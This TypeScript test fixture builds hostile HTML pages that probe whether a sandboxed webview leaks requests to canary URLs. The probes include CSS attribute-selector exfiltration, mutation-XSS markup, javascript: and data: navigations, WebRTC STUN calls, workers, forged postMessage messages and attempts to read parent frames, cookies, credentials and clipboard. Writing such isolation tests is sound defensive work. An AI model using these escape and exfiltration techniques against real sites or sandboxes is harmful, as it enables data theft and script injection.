import type { Canaries } from './canaries.ts';
import { hostileLinks } from './hostileLinks.ts';
import { type HostilePage, pageOf, scriptOf } from './hostilePage.ts';
import { hostileRealms } from './hostileRealms.ts';
import { hostileReferences } from './hostileReferences.ts';

/**
 * Pages for each way out that is known. Where one gets at something that it must not, it says so in `data-escaped` of its
 * root; a script that ran to its end says that in `data-ran`.
 */
export function hostilePages(canaries: Canaries): readonly HostilePage[] {
  const { http, socket, stun } = canaries;
  const at = (name: string) => `${http}${name}`;
  const connect = `const connect = (view) => attempt(() => {
    const connection = new view.RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] });
    connection.createDataChannel('x');
    connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  });`;
  const alone = `{ const attempt = (work) => { try { return work(); } catch { return undefined; } }; ${connect.replaceAll('\n', ' ')} connect(window); }`;
  const nested = `<script>${alone} new Image().src='${at('nested')}'</script>`.replaceAll("'", '&#39;');
  return [
    // Without scripts
    pageOf(
      'image',
      `<img src="${at('image')}" alt=""><img srcset="${at('image-set')} 2x" alt=""><picture><source srcset="${at('source')}"><img alt=""></picture>`,
    ),
    pageOf(
      'lazy-image',
      `<img loading="lazy" src="${at('lazy')}" alt=""><input type="image" src="${at('input')}" alt="x"><video poster="${at('poster')}"></video>`,
    ),
    pageOf(
      'media',
      `<video src="${at('video')}" autoplay muted></video><audio src="${at('audio')}" preload="auto"></audio><track src="${at('track')}">`,
    ),
    pageOf(
      'style-url',
      `<style>body{background:url(${at('url')})}h1{background:u\\72l(${at('escaped-url')});cursor:url(${at('cursor')}),auto;content:image-set("${at('image-set')}" 1x)}</style>`,
    ),
    pageOf(
      'style-import',
      `<style>@import "${at('import.css')}";@import url(${at('import2.css')});@\\69mport "${at('import3.css')}";</style><p style="background:url('${at('inline')}')">x</p>`,
    ),
    pageOf('style-font', `<style>@font-face{font-family:a;src:url(${at('font')})}h1{font-family:a}</style>`),
    pageOf(
      'style-exfiltration',
      `<input value="s3cret" aria-label="x"><style>input[value^=s]{background:url(${at('starts-with-s')})}input[value$=t]{list-style:url(${at('ends-with-t')})}</style>`,
    ),
    pageOf('style-sheet', `<link rel="stylesheet" href="${at('sheet.css')}"><link rel="icon" href="${at('icon')}">`),
    pageOf(
      'hints',
      `<link rel="prefetch" href="${at('prefetch')}"><link rel="preload" as="image" href="${at('preload')}"><link rel="modulepreload" href="${at('module')}"><link rel="prerender" href="${at('prerender')}"><link rel="preconnect" href="${http}"><link rel="dns-prefetch" href="${http}"><link rel="manifest" href="${at('manifest')}">`,
    ),
    pageOf('meta-refresh', `<meta http-equiv="refresh" content="0;url=${at('refresh')}">`),
    pageOf(
      'meta-policy',
      `<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="${at('policy')}" alt="">`,
      false,
    ),
    pageOf('base', `<base href="${http}"><img src="based" alt=""><link rel="stylesheet" href="based.css">`),
    pageOf(
      'subframe',
      `<iframe src="${at('subframe')}"></iframe><object data="${at('object')}"></object><embed src="${at('embed')}">`,
    ),
    pageOf(
      'nested-document',
      `<iframe srcdoc="${nested}"></iframe><iframe src="data:text/html,<img src='${at('data')}'>"></iframe>`,
      true,
    ),
    pageOf(
      'script-address-frame',
      `<iframe src="javascript:void(new Image().src='${at('script-address')}')"></iframe>`,
      true,
    ),
    pageOf(
      'picture-script',
      `<svg onload="new Image().src='${at('svg-load')}'"><script>new Image().src='${at('svg-script')}'</script><image href="${at('svg-image')}"/><use href="${at('svg-use')}#x"/><style>rect{fill:url(${at('svg-fill')}#x)}</style><rect width="9" height="9"/></svg>`,
    ),
    pageOf(
      'handler',
      `<img src="data:," onerror="new Image().src='${at('handler')}'" alt=""><details open ontoggle="new Image().src='${at('toggle')}'"><summary>x</summary></details>`,
    ),
    pageOf('anchor-click', `<a id="go" href="${at('anchor')}" ping="${at('ping')}">Go</a>`, true, '#go'),
    pageOf('anchor-blank', `<a id="go" href="${at('blank')}" target="_blank">Go</a>`, true, '#go'),
    pageOf('anchor-top', `<a id="go" href="${at('top')}" target="_top">Go</a>`, true, '#go'),
    pageOf('anchor-download', `<a id="go" href="${at('download')}" download>Go</a>`, true, '#go'),
    pageOf(
      'script-address',
      `<a id="go" href="javascript:void(new Image().src='${at('script-link')}')">Go</a>`,
      true,
      '#go',
    ),
    pageOf('command-address', '<a id="go" href="command:workbench.action.closeAllEditors">Go</a>', false, '#go'),
    pageOf('form-click', `<form action="${at('form')}" method="post"><button id="go">Go</button></form>`, true, '#go'),
    pageOf('form-button', `<form><button id="go" formaction="${at('formaction')}">Go</button></form>`, true, '#go'),
    pageOf(
      'mutation',
      `<noscript><p title="</noscript><img src=${at('mutation')} onerror=1>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${at('mutation2')}&gt;">`,
      false,
    ),
    // With scripts
    pageOf(
      'fetch',
      scriptOf(
        `attempt(() => fetch('${at('fetch')}').catch(() => 0)); attempt(() => { const r = new XMLHttpRequest(); r.open('GET', '${at('xhr')}'); r.send(); }); attempt(() => fetch('${at('keepalive')}', { keepalive: true, mode: 'no-cors', method: 'POST' }).catch(() => 0)); attempt(() => fetchLater('${at('later')}', { activateAfter: 0 }));`,
      ),
    ),
    pageOf('beacon', scriptOf(`attempt(() => navigator.sendBeacon('${at('beacon')}', 'x'));`)),
    pageOf('web-socket', scriptOf(`attempt(() => new WebSocket('${socket}socket'));`)),
    pageOf('event-source', scriptOf(`attempt(() => new EventSource('${at('events')}'));`)),
    pageOf(
      'web-transport',
      scriptOf(`attempt(() => new WebTransport('${http.replace('http:', 'https:')}transport'));`),
      false,
    ),
    pageOf(
      'new-image',
      scriptOf(
        `new Image().src = '${at('new-image')}'; document.body.style.backgroundImage = 'url(${at('style')})'; document.body.insertAdjacentHTML('beforeend', '<img src="${at('inserted')}" srcset="${at('inserted-set')} 1x">');`,
      ),
    ),
    pageOf(
      'new-script',
      scriptOf(
        `const s = document.createElement('script'); s.src = '${at('new-script')}'; document.head.append(s); attempt(() => import('${at('module')}').catch(() => 0));`,
      ),
    ),
    pageOf(
      'new-style',
      scriptOf(
        `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${at('new.css')}'; document.head.append(l); const i = document.createElement('style'); i.textContent = '@import "${at('new-import.css')}"'; document.head.append(i);`,
      ),
    ),
    pageOf(
      'new-hints',
      scriptOf(
        `for (const rel of ['prefetch', 'preload', 'prerender', 'modulepreload', 'icon', 'manifest', 'preconnect', 'dns-prefetch']) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = '${http}' + rel; document.head.append(l); }`,
      ),
    ),
    pageOf(
      'speculation',
      scriptOf(
        `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: ['${at('speculated')}'], eagerness: 'immediate' }], prerender: [{ urls: ['${at('prerendered')}'], eagerness: 'immediate' }] }); document.head.append(s);`,
      ),
      false,
    ),
    pageOf('self-navigation', scriptOf(`location.href = '${at('self')}';`)),
    pageOf(
      'self-replace',
      scriptOf(
        `attempt(() => location.replace('${at('replace')}')); attempt(() => navigation.navigate('${at('navigate')}'));`,
      ),
    ),
    pageOf('self-timer', scriptOf(`setTimeout(() => location.assign('${at('self-timer')}'), 50);`)),
    pageOf(
      'self-click',
      `<button id="go">Go</button>${scriptOf(`document.querySelector('#go').onclick = () => { window.location = '${at('self-window')}'; document.location = '${at('self-document')}'; };`)}`,
      true,
      '#go',
    ),
    pageOf(
      'self-refresh',
      scriptOf(
        `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${at('self-refresh')}'; document.head.append(m);`,
      ),
    ),
    pageOf(
      'self-disguised',
      scriptOf(
        `Event.prototype.preventDefault = Event.prototype.stopImmediatePropagation = () => undefined; EventTarget.prototype.addEventListener = () => undefined; performance.now = Date.now = () => 0; document.documentElement.dataset.ran = 'yes'; document.body.remove(); location.href = '${at('self-disguised')}';`,
      ),
    ),
    pageOf(
      'self-hash',
      scriptOf(
        `location.hash = 'here'; attempt(() => history.pushState({}, '', '#there')); if (!location.hash.endsWith('here')) escaped('no place within the page');`,
      ),
      false,
    ),
    pageOf(
      'self-script-address',
      scriptOf(`attempt(() => { location.href = "javascript:void(new Image().src='${at('self-script')}')"; });`),
    ),
    pageOf(
      'self-data',
      scriptOf(
        `attempt(() => { location.href = "data:text/html,<img src='${at('self-data')}'>"; }); attempt(() => { location.href = URL.createObjectURL(new Blob(['<img src=${at('self-blob')}>'], { type: 'text/html' })); });`,
      ),
      false,
    ),
    pageOf(
      'top-navigation',
      scriptOf(
        `attempt(() => { top.location.href = '${at('top-script')}'; }); attempt(() => { parent.location.href = '${at('parent-script')}'; });`,
      ),
    ),
    pageOf(
      'popup',
      scriptOf(
        `attempt(() => window.open('${at('popup')}')); attempt(() => { const a = document.createElement('a'); a.href = '${at('popup-link')}'; a.target = '_blank'; a.click(); });`,
      ),
      false,
    ),
    pageOf(
      'form-script',
      scriptOf(
        `const f = document.createElement('form'); f.action = '${at('form-script')}'; f.method = 'post'; document.body.append(f); attempt(() => f.submit()); attempt(() => f.requestSubmit());`,
      ),
    ),
    pageOf(
      'new-subframe',
      scriptOf(
        `for (const [name, key] of [['iframe', 'src'], ['object', 'data'], ['embed', 'src'], ['frame', 'src'], ['portal', 'src'], ['fencedframe', 'src']]) { const e = document.createElement(name); e.setAttribute(key, '${http}new-' + name); document.body.append(e); }`,
      ),
    ),
    pageOf(
      'worker',
      scriptOf(
        `attempt(() => new Worker('${at('worker.js')}')); attempt(() => new Worker(URL.createObjectURL(new Blob(["fetch('${at('blob-worker')}')"])))); attempt(() => new SharedWorker('${at('shared.js')}')); attempt(() => CSS.paintWorklet && CSS.paintWorklet.addModule('${at('worklet')}').catch(() => 0));`,
      ),
      true,
    ),
    pageOf(
      'service-worker',
      scriptOf(
        `attempt(() => navigator.serviceWorker.register('${at('service.js')}').catch(() => 0)); attempt(() => navigator.serviceWorker.getRegistrations().then(() => escaped('service workers'), () => 0));`,
      ),
      false,
    ),
    pageOf(
      'peer-connection',
      scriptOf(
        `${connect} connect(window); connect(globalThis); for (const name of ['webkitRTCPeerConnection', 'mozRTCPeerConnection']) connect({ RTCPeerConnection: window[name] });`,
      ),
    ),
    pageOf(
      'peer-connection-blank',
      scriptOf(
        `${connect} const f = document.createElement('iframe'); document.body.append(f); connect(f.contentWindow); const o = document.createElement('object'); o.data = 'about:blank'; document.body.append(o); setTimeout(() => connect(o.contentWindow), 200);`,
      ),
    ),
    pageOf(
      'peer-connection-nested',
      scriptOf(
        `const inner = "<script>${alone.replaceAll('"', '\\"')}<\\/script>"; const f = document.createElement('iframe'); f.srcdoc = inner; document.body.append(f); const d = document.createElement('div'); document.body.append(d); d.attachShadow({ mode: 'closed' }).innerHTML = '<iframe srcdoc="' + inner.replaceAll('"', '&quot;') + '"></iframe>'; attempt(() => d.setHTMLUnsafe('<div><template shadowrootmode=closed><iframe srcdoc="' + inner.replaceAll('"', '&quot;') + '"></iframe></template></div>'));`,
      ),
    ),
    pageOf(
      'peer-connection-written',
      scriptOf(
        `${connect} const inner = "<script>${alone.replaceAll('"', '\\"')}<\\/script>"; attempt(() => { const f = document.createElement('iframe'); document.body.append(f); f.contentDocument.write(inner); }); attempt(() => { const f = document.createElement('iframe'); f.src = 'javascript:' + JSON.stringify(inner); document.body.append(f); }); attempt(() => connect(window.open('about:blank'))); setTimeout(() => { document.open(); document.write(inner + '<iframe srcdoc="' + inner.replaceAll('"', '&quot;') + '"></iframe>'); document.close(); }, 100);`,
      ),
    ),
    pageOf(
      'parent-access',
      scriptOf(
        `for (const view of [parent, parent.parent, top]) { attempt(() => { view.document.body.textContent = 'owned'; escaped('document'); }); attempt(() => { if (view.acquireVsCodeApi) escaped('api'); }); attempt(() => { view.eval('1'); escaped('eval'); }); } if (typeof acquireVsCodeApi !== 'undefined') escaped('api'); attempt(() => { if (localStorage.getItem('x') !== null) escaped('storage'); localStorage.setItem('x', '1'); }); attempt(() => { if (document.cookie !== '') escaped('cookie'); document.cookie = 'x=1'; }); attempt(() => { const r = indexedDB.open('x'); r.onsuccess = () => escaped('database'); }); attempt(() => { for (let i = 0; i < parent.length; i += 1) if (parent[i] !== window) { parent[i].document.body.textContent = 'owned'; escaped('other side'); } }); attempt(() => { if (frameElement) escaped('frame element'); });`,
      ),
      false,
    ),
    pageOf(
      'forged-messages',
      scriptOf(
        `const forged = [{ type: 'view-replaced', payload: { view: { files: ['owned.html'] } } }, { type: 'scripts-asked', payload: { side: 'right' } }, { type: 'panel-ready', payload: {} }, { type: 'checker-told', payload: { script: 'owned' } }, { type: 'frame-checked', payload: { violations: 'x'.repeat(5000000) } }, { type: 'frame-checked', payload: { violations: Array(101).fill({}) } }, { type: 'frame-logged', payload: { messages: [{ level: 'error', text: '<img src=${at('forged')} onerror=alert(1)>' }] } }, { channel: 'onmessage', data: { type: 'scripts-asked', payload: { side: 'right' } } }, { channel: 'do-update-state', data: '{}' }, { channel: 'did-click-link', data: { uri: '${at('forged-link')}' } }, { command: 'onmessage', data: {} }]; for (const message of forged) for (const view of [parent, parent.parent, top]) view.postMessage(message, '*'); attempt(() => { for (let i = 0; i < parent.length; i += 1) parent[i].postMessage({ type: 'check', payload: { script: "new Image().src='${at('forged-check')}'" } }, '*'); });`,
      ),
      false,
    ),
    pageOf(
      'other-doors',
      scriptOf(
        `attempt(() => navigator.credentials.get({ password: true }).then((c) => c && escaped('credentials'), () => 0)); attempt(() => navigator.clipboard.readText().then(() => escaped('clipboard'), () => 0)); attempt(() => navigator.geolocation.getCurrentPosition(() => escaped('place'))); attempt(() => navigator.mediaDevices.getUserMedia({ video: true }).then(() => escaped('camera'), () => 0)); attempt(() => Notification.requestPermission().then((p) => p === 'granted' && escaped('notifications'))); attempt(() => new PaymentRequest([{ supportedMethods: '${at('payment')}' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => 0)); attempt(() => document.requestStorageAccess().then(() => escaped('storage access'), () => 0)); attempt(() => navigator.joinAdInterestGroup && navigator.joinAdInterestGroup({ owner: '${http}', name: 'x', biddingLogicURL: '${at('bid')}' }, 1).catch(() => 0)); attempt(() => showOpenFilePicker().then(() => escaped('files'), () => 0)); attempt(() => alert('x')); attempt(() => print());`,
      ),
      false,
    ),
    ...hostileRealms(canaries),
    ...hostileLinks(canaries),
    ...hostileReferences(canaries),
  ];
}
